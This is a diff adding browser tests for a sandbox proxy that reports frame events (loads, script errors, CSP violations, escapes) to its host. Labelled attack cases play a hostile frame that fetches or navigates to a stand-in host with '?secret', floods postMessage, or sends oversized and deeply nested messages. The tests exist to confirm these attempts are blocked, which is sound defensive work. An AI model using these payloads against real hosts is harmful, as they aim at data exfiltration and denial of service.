@@ -1,0 +1,207 @@
+/** What the proxy tells its host about a frame, in a real browser (S12). */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { inlineScript, serveSite } from "../../../testing/browser.ts";
+import { SandboxStage, type Shown, until } from "../../../testing/sandbox-stage.ts";
+import { MemoryRecords } from "./records.js";
+
+const app = (script = ""): string => `<!doctype html><title>app</title><p>app</p>\n${inlineScript(script)}`;
+
+let stage: SandboxStage;
+const kept = new MemoryRecords();
+/** Records that were taken away. */
+const gone = new Set<string>();
+beforeAll(async () => {
+  stage = await SandboxStage.open({
+    records: {
+      get: (name) => (gone.has(name) ? undefined : kept.get(name)),
+      set: (name, text) => kept.set(name, text),
+    },
+  });
+});
+afterAll(() => stage?.close());
+
+/** Shows an app in a host that takes the port. */
+const show = (html: string): Promise<Shown> => stage.show({ html }, { port: true });
+
+async function run(shown: Shown, script: string): Promise<void> {
+  const view = await shown.view();
+  await view.evaluate((text) => {
+    const element = document.createElement("script");
+    element.text = text;
+    document.body.append(element);
+  }, script);
+}
+
+describe("S12: the host hears", () => {
+  it("loaded, once, when a document was", async () => {
+    const shown = await show(app());
+    await shown.untilReported("loaded");
+    await shown.post({ jsonrpc: "2.0", method: "ui/notifications/sandbox-ping" });
+    await shown.untilHeard("ui/notifications/sandbox-pong");
+    expect(await shown.reports()).toEqual([{ code: "loaded" }]);
+  });
+
+  it("csp_violation, of a script that runs before anything else, with its line", async () => {
+    const shown = await show(`<!doctype html>\n<script>fetch("https://undeclared.example/?secret")</script>`);
+    expect(await shown.untilReported("csp_violation")).toEqual({
+      code: "csp_violation",
+      by: "view",
+      directive: "connect-src",
+      blocked: "https://undeclared.example/?secret",
+      source: expect.stringContaining(shown.registered.viewOrigin),
+      line: 2,
+    });
+  });
+
+  it("script_error, thrown and rejected", async () => {
+    const shown = await show(app('Promise.reject(new Error("rejected")); throw new Error("thrown")'));
+    await until(async () => expect(await shown.reports("script_error")).toHaveLength(2));
+    const messages = (await shown.reports("script_error")).map(({ message }) => message);
+    expect(messages.toSorted()).toEqual(["Uncaught Error: thrown", "rejected"]);
+  });
+
+  it("no more than 50 of those from one document", async () => {
+    const shown = await show(app("for (let i = 0; i < 200; i++) setTimeout(() => { throw i })"));
+    await until(async () => expect(await shown.reports("script_error")).toHaveLength(50));
+    await run(
+      shown,
+      'setTimeout(() => { throw 1 }); setTimeout(() => parent.postMessage({ method: "last" }, "*"))',
+    );
+    await shown.untilHeard("last");
+    expect(await shown.reports("script_error")).toHaveLength(50);
+  });
+
+  it("load_failed, when the document is gone", async () => {
+    const html = app("// evicted");
+    const { src } = await stage.served.sandbox.register({ server: "test", html });
+    const shown = await stage.show({ html }, { port: true, src: `${src}#later` });
+    await shown.untilHeard("ui/notifications/sandbox-proxy-ready");
+    gone.add(new URL(src).pathname.slice(1));
+    await shown.post({ jsonrpc: "2.0", method: "ui/notifications/sandbox-load" });
+    await shown.untilReported("load_failed");
+    expect(await shown.reports()).toEqual([{ code: "load_failed" }]);
+  });
+
+  it("escape, unless the app has a use for it", async () => {
+    const shown = await show(
+      app(`addEventListener("keydown", (event) => {
+        if (document.title === "busy") event.preventDefault();
+        parent.postMessage({ method: "key" }, "*");
+      })`),
+    );
+    const view = await shown.view();
+    await view.evaluate(() => (document.title = "busy"));
+    await view.click("p");
+    await shown.page.keyboard.press("Escape");
+    await shown.untilHeard("key");
+    await view.evaluate(() => (document.title = "free"));
+    await shown.page.keyboard.press("Escape");
+    await shown.untilReported("escape");
+    expect(await shown.reports("escape")).toEqual([{ code: "escape", by: "view" }]);
+  });
+});
+
+describe("attack A23: a view that leaves", () => {
+  it.each([
+    ["to another site", (_own: string, other: string) => `location.href = "${other}/?secret"`],
+    ["to another site, by replace", (_own: string, other: string) => `location.replace("${other}/?secret")`],
+    ["to data:", () => 'location.href = "data:text/html,hello"'],
+    ["to a page that its own origin does not have", (own: string) => `location.href = "${own}/nothing"`],
+    ["to its own address with a query", () => 'location.href = location.href + "?secret"'],
+  ])("%s: arrives nowhere, and the host hears navigated_away", async (_where, script) => {
+    let hits = 0;
+    const other = await serveSite({
+      get "/"() {
+        hits++;
+        return "<!doctype html>elsewhere";
+      },
+    });
+    try {
+      // The control: from an ordinary page the same address is reached.
+      await stage.openPage(`${other.origin()}/`);
+      expect(hits).toBeGreaterThan(0);
+      hits = 0;
+      const shown = await show(app());
+      await shown.untilReported("loaded");
+      await run(shown, script(shown.registered.viewOrigin, other.origin()));
+      await shown.untilReported("navigated_away");
+      expect(hits).toBe(0);
+      const [frame] = (await shown.proxy()).childFrames();
+      expect(frame?.url()).toBe("chrome-error://chromewebdata/");
+      expect(new URL(shown.page.url()).origin).toBe(stage.site.origin());
+    } finally {
+      await other.close();
+    }
+  });
+
+  it("and one that reloads itself has not left", async () => {
+    const shown = await show(app());
+    await shown.untilReported("loaded");
+    await run(shown, "location.reload()");
+    await until(async () => expect(await shown.reports("loaded")).toHaveLength(2));
+    await run(shown, 'parent.postMessage({ method: "back" }, "*")');
+    await shown.untilHeard("back");
+    expect(await shown.reports("navigated_away")).toEqual([]);
+  });
+});
+
+describe("attack D03: a view that sends too much", () => {
+  it("is cut off after its burst, with one notice", async () => {
+    const shown = await show(app());
+    await shown.view();
+    // As fast as it can, and what it sends last carries the time that all of it took.
+    await run(
+      shown,
+      `const began = performance.now();
+      for (let i = 0; i < 60000; i++) parent.postMessage({ method: "flood" }, "*");
+      setTimeout(function look() { parent.postMessage({ method: "after", params: { took: performance.now() - began } }, "*"); setTimeout(look, 100); });`,
+    );
+    await shown.untilReported("flooded");
+    // Once there is room again it is heard.
+    const after = await shown.untilHeard("after");
+    const count = (await shown.heard()).filter(({ message }) => message.method === "flood").length;
+    expect(count).toBeGreaterThan(4000);
+    expect(count).toBeLessThan(5000 + 2 * Number(after.params?.["took"]) + 10);
+    expect(count).toBeLessThan(60_000);
+    expect(await shown.reports("flooded")).toEqual([{ code: "flooded" }]);
+  });
+
+  it("too_large: a giant stays in its own process; its id is told, so that it can be answered", async () => {
+    const shown = await show(app());
+    await run(shown, 'parent.postMessage({ id: 9, method: "tools/call", params: "x".repeat(33e6) }, "*")');
+    await run(
+      shown,
+      'parent.postMessage(JSON.stringify({ id: "t", method: "m", params: "x".repeat(33e6) }), "*")',
+    );
+    await run(shown, 'parent.postMessage({ id: "x".repeat(33e6), method: "m" }, "*")');
+    const method = "ui/notifications/sandbox-report";
+    await run(shown, `parent.postMessage({ method: "${method}", params: { code: "x".repeat(20000) } }, "*")`);
+    await until(async () => expect(await shown.reports("too_large")).toHaveLength(4));
+    expect(await shown.reports("too_large")).toEqual([
+      { code: "too_large", id: 9, method: "tools/call" },
+      { code: "too_large", id: "t", method: "m" },
+      { code: "too_large", method: "m" },
+      { code: "too_large", method },
+    ]);
+    for (const { message } of await shown.heard()) expect(JSON.stringify(message).length).toBeLessThan(1000);
+  });
+
+  it("malformed: what is no JSON, or is nested so deep that nobody can walk through it", async () => {
+    const shown = await show(app());
+    const hostile = [
+      '"no json"',
+      "'{'",
+      "undefined",
+      "{ big: 1n }",
+      "JSON.stringify({ method: { toString: 1, valueOf: 1 } })",
+      '\'{"method":"m","params":\' + "[".repeat(1e5) + "]".repeat(1e5) + "}"',
+      '(() => { let deep = {}; for (let i = 0; i < 1000; i++) deep = { deep }; return { method: "m", params: deep }; })()',
+    ];
+    for (const text of hostile) await run(shown, `parent.postMessage(${text}, "*")`);
+    await run(shown, 'parent.postMessage({ method: "last", params: [[[[{ a: [[[]]] }]]]] }, "*")');
+    expect(await shown.untilHeard("last")).toEqual({ method: "last", params: [[[[{ a: [[[]]] }]]]] });
+    expect(await shown.reports("malformed")).toHaveLength(hostile.length);
+    const methods = (await shown.heard()).map(({ message }) => message.method);
+    expect(methods).not.toContain("m");
+  });
+});
